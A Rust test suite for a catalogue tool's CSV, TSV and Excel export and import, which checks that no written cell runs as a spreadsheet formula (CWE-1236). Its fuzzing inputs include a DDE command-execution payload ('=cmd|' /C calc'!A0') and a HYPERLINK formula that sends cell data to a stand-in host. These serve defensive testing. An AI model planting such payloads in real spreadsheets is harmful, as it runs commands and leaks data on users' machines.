//! No cell of any table that is written runs as a formula (CWE-1236), and every value comes back.

use std::io::Cursor;
use std::ops::ControlFlow;
use std::path::Path;
use std::sync::Arc;

use calamine::{Data, Reader, Xlsx};
use hujin::catalogue::{Catalogue, CatalogueBuilder, Enterprise, PracticeCase, Taxonomy};
use hujin::export::Table;
use hujin::geography::Pack;
use hujin::import::{ImportOptions, Origin, propose};
use hujin::language::Language;
use hujin::workspace::{cases_file, table_file};
use proptest::prelude::*;

/// What begins a cell that a spreadsheet may run, full-width forms included.
const STARTS: [char; 12] = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];

fn is_number(cell: &str) -> bool {
    cell.parse::<f64>().is_ok_and(f64::is_finite)
}

/// Cells of a CSV as any other program reads them.
fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = bytes.strip_prefix("\u{feff}".as_bytes()).expect("the mark Excel needs");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text);
    reader.records().map(|row| row.expect("CSV").iter().map(str::to_owned).collect()).collect()
}

fn assert_harmless(cells: &[Vec<String>]) {
    for cell in cells.iter().flatten() {
        let front = cell.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || c == '\u{feff}');
        assert!(is_number(cell) || !cell.starts_with(STARTS) && !front.starts_with(STARTS), "{cell:?} runs");
    }
}

/// Cells of a workbook, which must all be text or numbers; formulas are none.
fn workbook_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).expect("a workbook");
    let name = book.sheet_names()[0].clone();
    let formulas = book.worksheet_formula(&name).expect("a sheet");
    assert!(formulas.cells().all(|(.., formula)| formula.is_empty()), "a formula is in {name}");
    let sheet = book.worksheet_range(&name).expect("a sheet");
    let text = |cell: &Data| match cell {
        Data::Empty => String::new(),
        Data::String(text) => text.clone(),
        Data::Float(number) => number.to_string(),
        other => panic!("{other:?} is neither text nor number"),
    };
    sheet.rows().map(|row| row.iter().map(text).collect()).collect()
}

fn enterprise(name: &str, note: &str) -> Enterprise {
    Enterprise {
        id: 1,
        name_zh: name.to_owned(),
        note: note.to_owned(),
        segment: note.to_owned(),
        ..Enterprise::default()
    }
}

fn catalogue(rows: &[Enterprise]) -> Arc<Catalogue> {
    let mut builder = CatalogueBuilder::new(Arc::new(Taxonomy::bundled()));
    rows.iter().for_each(|row| builder.push(row));
    Arc::new(builder.build(1))
}

/// The names that importing a file gives.
fn imported(name: &str, bytes: Vec<u8>) -> Vec<Enterprise> {
    let empty = catalogue(&[]);
    let origin = Origin::Bytes(name.to_owned(), bytes.into());
    let options = ImportOptions { keep_unknown: true, ..ImportOptions::default() };
    let proposal = propose(&origin, options, &empty, &Pack::bundled(), &|_| ControlFlow::Continue(())).expect("reads");
    proposal.new_rows().map(|row| proposal.enterprise(row)).collect()
}

fn hostile_text() -> impl Strategy<Value = String> {
    let start = prop::sample::select(STARTS.to_vec());
    let rest = "[a-z甲0-9=+\\-@,;|\"'!()\t. ＝]{0,12}";
    prop_oneof![
        (start, rest).prop_map(|(start, rest)| format!("{start}{rest}")),
        rest.prop_map(|rest| rest),
        rest.prop_map(|rest| format!("'{rest}")),
        Just("=cmd|' /C calc'!A0".to_owned()),
        Just("-5".to_owned()),
        Just("=HYPERLINK(\"http://x.invalid/?\"&A1)".to_owned()),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, ..ProptestConfig::default() })]

    #[test]
    fn tables_of_every_kind(cells in prop::collection::vec(hostile_text(), 6)) {
        let columns = vec!["企业名称".to_owned(), cells[0].clone(), "备注".to_owned()];
        let rows = cells.chunks(3).map(<[String]>::to_vec).collect();
        let table = Table { columns, rows };
        assert_harmless(&csv_cells(&table.csv().unwrap()));
        let pasted: Vec<Vec<String>> = table.tsv().lines().map(|l| l.split('\t').map(str::to_owned).collect()).collect();
        prop_assert_eq!(pasted.len(), 3);
        assert_harmless(&pasted);
        let book = workbook_cells(&table.xlsx("表", &[false, true, false]).unwrap());
        for (row, written) in book[1..].iter().zip(&table.rows) {
            for (cell, value) in row.iter().zip(written) {
                // A workbook knows text from formulas by itself: the value is as it was.
                let same = cell == value || is_number(value) && cell.parse::<f64>() == value.parse::<f64>();
                prop_assert!(same || value.contains(['\0', '\r']), "{cell:?} {value:?}");
            }
        }
    }

    #[test]
    fn what_was_exported_is_imported_again(name in hostile_text(), note in hostile_text()) {
        let (name, note) = (format!("甲{name}"), note.replace('\0', ""));
        let name = name.replace(['\0', '\r', '\n', '\t'], "");
        let rows = [Enterprise { note: note.clone(), ..enterprise(&name, &note) }];
        let (catalogue, pack) = (catalogue(&rows), Pack::bundled());
        let columns = [hujin::catalogue::Field::NameZh, hujin::catalogue::Field::Segment];
        let table = table_file::table(&[0], &columns, &catalogue, &pack, Language::Zh);
        for (file, bytes) in [("a.csv", table.csv().unwrap()), ("a.xlsx", table.xlsx("表", &[false; 2]).unwrap())] {
            let read = imported(file, bytes);
            prop_assert_eq!(read.len(), 1, "{}", file);
            // Blanks at the ends of cells are nobody's; `="…"` and `=1` are codes that a spreadsheet keeps, and cells
            // of signs alone say that something is unknown.
            let is_code = |text: &str| text.trim().starts_with('=') && file == "a.xlsx";
            if !is_code(&note) && !note.contains('\r') && note.contains(char::is_alphanumeric) {
                prop_assert_eq!(read[0].segment.trim(), note.trim(), "{}", file);
            }
        }
    }

    #[test]
    fn refused_rows_and_cases(text in hostile_text(), other in hostile_text()) {
        // Without a name the row is refused, and written down for the user to mend.
        let quoted = |text: &str| format!("\"{}\"", text.replace('"', "\"\"").replace('\0', ""));
        let file = format!("企业名称,备注,{}\n,{},{}\n", quoted(&format!("列{text}")), quoted(&text), quoted(&other));
        let origin = Origin::Bytes("a.csv".to_owned(), file.into_bytes().into());
        let proposal = propose(&origin, ImportOptions::default(), &catalogue(&[]), &Pack::bundled(), &|_| ControlFlow::Continue(()));
        if let Ok(proposal) = proposal {
            assert_harmless(&csv_cells(&proposal.rejects_csv(Language::Zh)));
        }
        let case = PracticeCase { title: text.clone(), institution: other, source: text, ..PracticeCase::default() };
        let table = cases_file::table(&[case], &catalogue(&[]), Language::En);
        assert_harmless(&csv_cells(&table.csv().unwrap()));
        workbook_cells(&table.xlsx("cases", &[false, false, false, true, false, false]).unwrap());
    }
}

#[test]
fn the_commands_write_no_formula_either() {
    let folder = tempfile::tempdir().unwrap();
    let at = folder.path();
    let run = |args: &[&str]| {
        let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_hujin"));
        let output = command.current_dir(at).args(args).env("HUJIN_LANG", "zh").env("HUJIN_DATA", at).output().unwrap();
        assert_ne!(output.status.code(), Some(2), "{args:?}: {}", String::from_utf8_lossy(&output.stderr));
        output.stdout
    };
    let names = ["=1+1有限公司", "＋乙丙丁有限公司", "@SUM(1)有限公司", "-戊己庚有限公司", "'=辛壬癸有限公司"];
    let rows: String = names.iter().map(|name| format!("{name},徐汇区,{name}\n")).collect();
    std::fs::write(at.join("a.csv"), format!("企业名称,区,细分领域\n{rows},,=1\n")).unwrap();
    run(&["new", "c.gpkg", "--empty"]);
    run(&["import", "a.csv", "--into", "c.gpkg", "--rejects", "r.csv"]);
    let listed = run(&["list", "c.gpkg", "--csv"]);
    run(&["list", "c.gpkg", "-o", "l.xlsx"]);
    std::fs::write(at.join("l.csv"), &listed).unwrap();
    run(&["stats", "c.gpkg", "--by", "district", "--csv"]);
    run(&["new", "d.gpkg", "--empty"]);
    run(&["import", "l.csv", "--into", "d.gpkg"]);
    for file in ["l.csv", "r.csv"] {
        assert_harmless(&csv_cells(&read(&at.join(file))));
    }
    assert_eq!(workbook_cells(&read(&at.join("l.xlsx"))).len(), 1 + names.len());
    let again: serde_json::Value = serde_json::from_slice(&run(&["list", "d.gpkg", "--json"])).unwrap();
    let again: Vec<&str> = again.as_array().unwrap().iter().filter_map(|row| row["name_zh"].as_str()).collect();
    // What the first import took for an apostrophe of a spreadsheet's is gone from the last.
    assert_eq!(again, ["=1+1有限公司", "＋乙丙丁有限公司", "@SUM(1)有限公司", "-戊己庚有限公司", "=辛壬癸有限公司"]);
}

fn read(path: &Path) -> Vec<u8> {
    std::fs::read(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}
